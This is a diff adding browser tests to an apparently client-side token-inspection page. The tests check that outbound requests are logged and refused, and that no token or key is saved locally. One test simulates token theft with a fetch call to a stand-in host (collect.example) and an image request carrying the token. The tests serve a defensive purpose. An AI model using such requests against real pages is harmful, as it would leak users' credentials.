@@ -63,4 +63,48 @@ describe('what is pasted stays in the page', { skip: cannotRun }, () => {
     assert.deepEqual(stored, [0, 0, '']);
     await close();
   });
+
+  test('every attempt to reach anybody is counted and listed', async () => {
+    const { page, close } = await openPage(browser, served.address);
+    await page.getByRole('button', { name: 'Requests: 0', exact: true }).waitFor();
+    await page.evaluate(async () => fetch('https://collect.example/?token=x').catch(() => undefined));
+    await page.evaluate(async () => {
+      // An image of this server is allowed, and would carry a token away all the same.
+      const image = new Image();
+      image.src = './collect?token=x';
+      await image.decode().catch(() => undefined);
+    });
+    await page.getByRole('button', { name: 'Requests: 1 · refused: 1' }).click();
+    const sheet = page.getByRole('dialog', { name: 'Nothing leaves this page' });
+    await sheet.getByText('1 request beyond its own files, 1 attempt refused').waitFor();
+    await sheet.getByRole('rowheader', { name: 'https://collect.example/?token=x' }).waitFor();
+    await sheet.getByRole('rowheader', { name: `${served.address}collect?token=x` }).waitFor();
+    await close();
+  });
+
+  test('settings are stored only while that is wanted, and never a token or a key', async () => {
+    const { page, close } = await openPage(browser, served.address);
+    const stored = async (): Promise<string> =>
+      page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
+    await chooseSample(page, 'hs256');
+    await page.getByLabel('Issuer').fill('https://mine.example');
+    await page.getByRole('button', { name: 'Theme: as the system' }).click();
+    await page.getByRole('button', { name: 'Theme: light' }).click();
+    assert.equal(await stored(), '[]');
+    await page.getByRole('button', { name: 'Settings' }).click();
+    const sheet = page.getByRole('dialog', { name: 'Settings' });
+    await sheet.getByText('Nothing is stored on this device.').waitFor();
+    await sheet.getByLabel('Remember settings on this device').check();
+    const kept = await stored();
+    assert.match(kept, /mine\.example/);
+    assert.doesNotMatch(kept, /eyJ|0123456789|secret/);
+    await page.reload();
+    assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
+    assert.equal(await page.getByLabel('Issuer').inputValue(), 'https://mine.example');
+    assert.equal(await tokenBox(page).inputValue(), '');
+    await page.getByRole('button', { name: 'Settings' }).click();
+    await sheet.getByLabel('Remember settings on this device').uncheck();
+    assert.equal(await stored(), '[]');
+    await close();
+  });
 });
